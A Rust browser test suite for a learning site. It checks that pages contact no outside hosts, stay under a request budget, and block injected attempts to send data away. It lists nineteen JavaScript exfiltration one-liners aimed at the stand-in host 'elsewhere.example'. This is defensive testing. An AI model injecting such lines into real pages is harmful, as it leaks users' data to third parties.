//! Nobody else is asked for anything: every page there is, and what people do on them, through a
//! proxy that notes every request. And how many files each page asks for.
//!
//! `docs/unbroken.md` says what is promised, and names these tests.

use std::{collections::BTreeSet, process::Command};

use serde_json::json;
use underpin::{route::Route, site};

use crate::{
    browser::{Browser, Seen},
    cohort::{self, Cohort},
    dist, profile,
    service::Service,
    trap::{Asked, Trap},
    walked,
};

const UNIT: &str = "carer-partnerships";
const ANSWER: &str = "units/carer-partnerships/ac-3-2/";
/// A host that no resolver knows, so that only the proxy can hear of it.
const ELSEWHERE: &str = "elsewhere.example";

/// Walks through `steps` in a browser behind a trap.
async fn behind_a_trap(name: &str, steps: impl AsyncFnOnce(&mut Browser, &Trap) -> Seen) -> Seen {
    let mut serve = Command::new(env!("CARGO_BIN_EXE_underpin"));
    let serve = serve.arg("serve").arg("--dir").arg(dist());
    let site = Service::start(serve.args(["--port", "0", "--log", "off"]))?;
    let trap = Trap::new(&site.address())?;
    let browser = Browser::through(trap.address(), site, profile(name)).await;
    walked(browser, name, async |browser| steps(browser, &trap).await).await
}

/// Every page of the site that is another than the ones before: those that are the same for all
/// packs, and one unit's.
fn pages() -> Vec<Route> {
    let mut seen = BTreeSet::new();
    let routes = site::routes(cohort::pack()).into_iter();
    let is_named = |route: &Route| route.path().contains(UNIT) || !route.path().contains("units/");
    let mut routes: Vec<Route> = routes
        .filter(is_named)
        .filter(|route| seen.insert(route.name()))
        .collect();
    routes.sort_by_key(Route::is_desk);
    routes
}

/// How many requests a page makes at most: a careless change has one more.
fn most(route: &Route) -> usize {
    // The page, two files of the program and the one that starts it, what keeps the site on the
    // device, the list for installing and its icon. Where people read and practise, look and the first
    // part of the style stand in the page.
    let shell = match (route.is_for_study(), route.is_desk()) {
        (true, _) => 7 + 1,
        (false, false) => 7 + 2,
        (false, true) => 7 + 3,
    };
    let room = usize::from(route.is_of_the_room());
    let pack = 1;
    let words = match route {
        // Its words, and the same as the build has read them.
        Route::Unit(_) => pack + 2,
        Route::Answer(..) | Route::Workbook(_) | Route::Enter(_) | Route::Together(_) => pack + 1,
        Route::Record => pack + cohort::pack().units.len(),
        desk if desk.is_desk() => pack + cohort::pack().units.len(),
        _ => 0,
    };
    // Whether there is a door to a store behind the site, and who is signed in there.
    let door = usize::from(!route.is_for_study());
    shell + room + words + door
}

impl Browser {
    /// The addresses of everything that the open page has asked for, the page itself first.
    async fn loaded(&self) -> Seen<Vec<String>> {
        self.until("the whole page", "document.readyState === 'complete'")
            .await?;
        let loaded = self
            .tell("performance.getEntries().filter((entry) => ['navigation', 'resource'].includes(entry.entryType)).map((entry) => entry.name)")
            .await?;
        let loaded = loaded.as_array().ok_or("no list of what was loaded")?;
        Ok(loaded
            .iter()
            .filter_map(|name| name.as_str().map(str::to_owned))
            .collect())
    }

    /// The host and port that the open page came from.
    async fn host(&self) -> Seen<String> {
        let host = self.tell("location.host").await?;
        Ok(host.as_str().ok_or("no host")?.to_owned())
    }
}

/// Whom Chromium asks by itself, whatever page is open: for its start page, new versions, the time,
/// lists of dangerous sites. What a page loads from them the page's own list would tell.
const BROWSERS_OWN: [&str; 13] = [
    "accounts.google.com",
    "android.clients.google.com",
    "clients2.google.com",
    "clients2.googleusercontent.com",
    "clientservices.googleapis.com",
    "content-autofill.googleapis.com",
    "edgedl.me.gvt1.com",
    "optimizationguide-pa.googleapis.com",
    "redirector.gvt1.com",
    "safebrowsing.googleapis.com",
    "safebrowsingohttpgateway.googleapis.com",
    "start.duckduckgo.com",
    "update.googleapis.com",
];

/// What was asked of anybody but the site and the browser's makers.
fn of_others(asked: &[Asked], own: &str) -> Vec<Asked> {
    let is_browsers = |host: &str| BROWSERS_OWN.contains(&host.trim_end_matches(":443"));
    let others = asked
        .iter()
        .filter(|asked| asked.host != own && !is_browsers(&asked.host));
    others.cloned().collect()
}

#[tokio::test]
async fn no_page_asks_anybody_but_its_own_site() -> Seen {
    behind_a_trap("own-origin", async |browser, trap| {
        browser.open_live("").await?;
        let own = browser.host().await?;
        let mut too_many = Vec::new();
        for route in pages() {
            browser.open_live(&route.path()).await?;
            let loaded = browser.loaded().await?;
            let of_site = format!("http://{own}/");
            assert!(
                loaded.iter().all(|address| address.starts_with(&of_site)),
                "{route:?}: {loaded:#?}"
            );
            if loaded.len() > most(&route) {
                too_many.push((route, loaded));
            }
        }

        // What people do there: practice, an answer, a desk with records on it.
        browser.open_unit(UNIT).await?;
        browser.answer_one().await?;
        browser.open_live(ANSWER).await?;
        browser
            .type_into("[data-place=answer] textarea", "She told me why.")
            .await?;
        browser
            .see_text("[data-place=answer]", "Saved on this device")
            .await?;
        let cohort = Cohort::new(1, 3);
        let files = cohort.write(&browser.folder().join("hand-ins"));
        browser.sit_down("Maureen Tully", 0).await?;
        browser.open_at_desk(&files).await?;
        for route in pages().into_iter().filter(Route::is_desk) {
            browser.open_live(&route.path()).await?;
            browser.see("h1").await?;
        }
        browser.restart().await?;
        browser.open_live("").await?;

        let asked = trap.asked()?;
        let all = asked.iter().filter(|asked| asked.host == own).count();
        assert!(all > pages().len(), "the proxy was gone round");
        assert_eq!(of_others(&asked, &own), []);
        assert!(too_many.is_empty(), "{too_many:#?}");
        Ok(())
    })
    .await
}

#[tokio::test]
async fn what_a_stranger_puts_into_a_page_cannot_send_anything_away() -> Seen {
    behind_a_trap("sends-nothing", async |browser, trap| {
    browser.open_live("").await?;
    let own = browser.host().await?;
    let tries = json!([
        "fetch(there)",
        "fetch(there, { mode: 'no-cors' })",
        "navigator.sendBeacon(there, 'words')",
        "new WebSocket(there.replace('http', 'ws'))",
        "new EventSource(there)",
        "new Image().src = there",
        "put('script', { src: there })",
        "put('link', { rel: 'stylesheet', href: there })",
        "put('link', { rel: 'prefetch', href: there })",
        "put('link', { rel: 'preload', as: 'image', href: there })",
        "put('iframe', { src: there })",
        "put('object', { data: there })",
        "put('video', { src: there })",
        "new FontFace('Words', `url(${there})`).load()",
        "put('form', { action: there, method: 'post' }).submit()",
        "document.body.style.backgroundImage = `url(${there})`",
        "navigator.serviceWorker.register(there)",
        "new Worker(there)",
        "import(there)",
    ]);
    // Run by the driver, so that the policy of the page is all that stands in the way.
    browser
        .ask(&format!(
            "const put = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
             window.stopped = [];
             addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
             const tries = {tries};
             for (const [at, words] of tries.entries()) {{
                 const there = 'http://{ELSEWHERE}/' + at;
                 try {{ Promise.resolve(new Function('there', 'put', 'return ' + words)(there, put)).catch(() => {{}}); }} catch {{}}
             }}
             done();"
        ))
        .await?;
    browser
        .until(
            "the policy to stop each",
            "['connect-src', 'default-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src', 'script-src-elem', 'style-src-elem']
                 .every((kind) => stopped.includes(kind))",
        )
        .await?;
    assert_eq!(of_others(&trap.asked()?, &own), []);

    // And the trap would have noted it.
    browser
        .go_to(&format!("http://{ELSEWHERE}/seen"))
        .await
        .ok();
    let seen = Asked {
        host: ELSEWHERE.to_owned(),
        path: "/seen".to_owned(),
    };
    assert!(of_others(&trap.asked()?, &own).contains(&seen));
    Ok(())
    })
    .await
}
